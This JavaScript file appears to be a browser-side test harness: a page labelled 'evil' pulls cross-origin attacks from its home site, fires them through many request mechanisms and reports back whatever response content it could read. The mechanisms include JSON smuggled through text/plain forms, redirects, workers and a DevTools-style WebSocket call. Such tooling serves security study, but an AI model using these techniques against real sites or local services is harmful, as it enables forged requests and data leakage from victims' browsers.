// Everything that a web page can send to an address of another origin. The page asks its own site for attacks, tries them and
// tells its site what it could see of the answers. Set before: home, the address of the site; page, the number of this page.
'use strict';

const nothing = { read: '', status: 0, told: false };
const told = (yes) => ({ ...nothing, told: yes });
const answer = async (r) => ({ read: await r.text(), status: r.status, told: false });
const simple = (a) => ({ method: a.method, ...(a.method === 'GET' ? {} : { body: a.body }) });
const away = (code, a) => `${home}/evil/redirect?code=${code}&to=${encodeURIComponent(a.url)}`;
const once = (target, yes, no) => new Promise((ok) => {
  target.addEventListener(yes, () => ok(told(true)), { once: true });
  target.addEventListener(no, () => ok(told(false)), { once: true });
});

// add puts an element into the page and waits for its fate.
function add(name, attributes) {
  const e = Object.assign(document.createElement(name), attributes);
  const fate = once(e, 'load', 'error');
  document.body.append(e);
  return fate;
}

// framed waits for a frame that is on its way elsewhere, and reads it.
function framed(f) {
  return new Promise((ok) => f.addEventListener('load', () => {
    let text = '';
    try { text = f.contentDocument?.body?.textContent ?? ''; } catch { /* of another origin */ }
    f.remove();
    ok({ ...nothing, read: text });
  }));
}

function frame(name, attributes) {
  const f = Object.assign(document.createElement(name), attributes);
  const seen = framed(f);
  document.body.append(f);
  return seen;
}

// windowed waits until a window of ours has arrived at another site, reads it and closes it.
async function windowed(w) {
  let seen = nothing;
  for (;;) {
    await new Promise((ok) => setTimeout(ok, 10));
    try {
      const there = w.location.href !== 'about:blank' && !w.location.href.includes('/evil/');
      if (!there || w.document.readyState !== 'complete') continue;
      seen = { ...nothing, read: w.document.body.textContent };
    } catch { /* of another origin: it has arrived */ }
    w.close();
    return seen;
  }
}

// form sends a form. A query of its address counts only when it is a field; text/plain makes JSON of a name and a value.
function form(a, enctype, target) {
  const address = new URL(a.url);
  const f = Object.assign(document.createElement('form'), { method: a.method, enctype, target, action: a.action ?? a.url });
  let fields = [...Object.entries(a.fields ?? {})];
  if (a.method === 'GET') fields = [...address.searchParams];
  else if (enctype === 'text/plain') fields = [[a.body.slice(0, -1) + (a.body === '{}' ? '' : ',') + '"z":"', '"}']];
  for (const [name, value] of fields) f.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  document.body.append(f);
  f.submit();
}

let frames = 0;

async function formInFrame(a, enctype) {
  const f = Object.assign(document.createElement('iframe'), { name: 'target' + ++frames });
  document.body.append(f);
  const seen = framed(f);
  form(a, enctype, f.name);
  return seen;
}

async function formInWindow(a, enctype) {
  const w = open('about:blank', 'window' + ++frames);
  form(a, enctype, 'window' + frames);
  return windowed(w);
}

// worker is the address of the workers' script. A blob, because a document without an origin may not run its site's.
const worker = async () => URL.createObjectURL(await (await fetch(home + '/evil/worker.js')).blob());
const said = (port) => new Promise((ok) => { port.onmessage = (m) => ok(m.data); });

async function throughServiceWorker(a) {
  await navigator.serviceWorker.register(home + '/evil/worker.js');
  const { active } = await navigator.serviceWorker.ready;
  const { port1, port2 } = new MessageChannel();
  active.postMessage({ url: a.url, init: simple(a) }, [port2]);
  return said(port1);
}

const kinds = {
  'fetch': async (a) => answer(await fetch(a.url, simple(a))),
  'fetch without CORS': async (a) => answer(await fetch(a.url, { ...simple(a), mode: 'no-cors' })),
  'fetch with credentials': async (a) => answer(await fetch(a.url, { ...simple(a), credentials: 'include' })),
  'fetch with headers': async (a) => answer(await fetch(a.url, { ...simple(a), headers: { Authorization: 'Bearer ' + a.token, 'Content-Type': 'application/json', 'X-Requested-With': 'cove' } })),
  'fetch kept alive': async (a) => answer(await fetch(a.url, { ...simple(a), keepalive: true, mode: 'no-cors' })),
  'fetch without a referrer': async (a) => answer(await fetch(a.url, { ...simple(a), referrerPolicy: 'no-referrer', mode: 'no-cors' })),
  'fetch redirected': async (a) => answer(await fetch(away(307, a), simple(a))),
  'fetch without CORS redirected': async (a) => answer(await fetch(away(307, a), { ...simple(a), mode: 'no-cors' })),
  'XMLHttpRequest': (a) => new Promise((ok) => {
    const x = new XMLHttpRequest();
    x.onloadend = () => ok({ read: x.responseText, status: x.status, told: false });
    x.open(a.method, a.url);
    x.send(a.method === 'GET' ? null : a.body);
  }),
  'image': (a) => add('img', { src: a.url }),
  'image redirected': (a) => add('img', { src: away(302, a) }),
  'script': (a) => add('script', { src: a.url }),
  'module': (a) => add('script', { type: 'module', src: a.url }),
  'stylesheet': (a) => add('link', { rel: 'stylesheet', href: a.url }),
  'prefetch': (a) => add('link', { rel: 'prefetch', href: a.url }),
  'preload': (a) => add('link', { rel: 'preload', as: 'fetch', href: a.url }).then(() => nothing), // loads whatever comes
  'background': async (a) => {
    document.body.append(Object.assign(document.createElement('div'), { style: `width:9px;height:9px;background:url("${a.url}")` }));
    return nothing; // nothing of it can be seen
  },
  'video': (a) => {
    const v = Object.assign(document.createElement('video'), { src: a.url });
    const fate = once(v, 'loadedmetadata', 'error');
    document.body.append(v);
    return fate;
  },
  'object': (a) => add('object', { type: 'text/html', data: a.url }).then(() => nothing),
  'embed': (a) => add('embed', { type: 'text/html', src: a.url }).then(() => nothing),
  'frame': (a) => frame('iframe', { src: a.url }),
  'frame redirected': (a) => frame('iframe', { src: away(302, a) }),
  'form': (a) => formInFrame(a, 'application/x-www-form-urlencoded'),
  'form as text': (a) => formInFrame(a, 'text/plain'),
  'form in parts': (a) => formInFrame(a, 'multipart/form-data'),
  'form redirected': (a) => formInFrame({ ...a, action: away(307, a) }, 'application/x-www-form-urlencoded'),
  'form in a window': (a) => formInWindow(a, 'application/x-www-form-urlencoded'),
  'form as text in a window': (a) => formInWindow(a, 'text/plain'),
  'form redirected in a window': (a) => formInWindow({ ...a, action: away(307, a) }, 'application/x-www-form-urlencoded'),
  'window': (a) => windowed(open(a.url)),
  'window without a referrer': async (a) => { open(a.url, '_blank', 'noreferrer'); return nothing; },
  'location': (a) => windowed(open(`${home}/evil/go?how=location&to=${encodeURIComponent(a.url)}`)),
  'meta refresh': (a) => windowed(open(`${home}/evil/go?how=meta&to=${encodeURIComponent(a.url)}`)),
  'redirect 302': (a) => windowed(open(away(302, a))),
  'redirect 307': (a) => windowed(open(away(307, a))),
  'beacon': async (a) => { navigator.sendBeacon(a.url, a.body); return nothing; },
  'ping': async (a) => {
    const link = Object.assign(document.createElement('a'), { ping: a.url, href: '#' });
    document.body.append(link);
    link.click();
    return nothing;
  },
  'EventSource': (a) => new Promise((ok) => {
    const s = new EventSource(a.url);
    const end = (seen) => { s.close(); ok(seen); };
    s.onmessage = (m) => end({ ...nothing, read: m.data });
    for (const type of ['session', 'profile']) s.addEventListener(type, (m) => end({ ...nothing, read: m.data }));
    s.onerror = () => end(nothing);
  }),
  'WebSocket': (a) => new Promise((ok) => {
    const w = new WebSocket(a.url.replace(/^http/, 'ws'));
    w.onopen = () => w.send('{"id":1,"method":"Browser.getVersion"}');
    w.onmessage = (m) => { w.close(); ok({ read: m.data, status: 0, told: true }); };
    w.onerror = () => ok(nothing);
  }),
  'worker': async (a) => {
    const w = new Worker(await worker());
    w.postMessage({ url: a.url, init: simple(a) });
    return said(w);
  },
  'shared worker': async (a) => {
    const w = new SharedWorker(await worker());
    w.port.postMessage({ url: a.url, init: simple(a) });
    return said(w.port);
  },
  'service worker': throughServiceWorker,
};

// attempt never fails and always ends: what the page did not learn in a while it did not learn.
function attempt(a) {
  const late = new Promise((ok) => setTimeout(ok, 30000, { ...nothing, late: true }));
  const tried = Promise.resolve().then(() => kinds[a.kind](a)).catch((e) => ({ ...nothing, refused: String(e) }));
  return Promise.race([tried, late]).then((seen) => ({ n: a.n, ...seen }));
}

async function run(attacks) {
  const seen = [];
  const next = attacks.values();
  const work = async () => { for (const a of next) seen.push(await attempt(a)); };
  await Promise.all(Array.from({ length: 6 }, work));
  return seen;
}

addEventListener('load', async () => {
  for (;;) {
    const r = await fetch(`${home}/evil/batch?page=${page}`);
    if (r.status !== 200) break;
    const seen = await run(await r.json());
    await fetch(`${home}/evil/report?page=${page}`, { method: 'POST', body: JSON.stringify(seen) });
  }
});
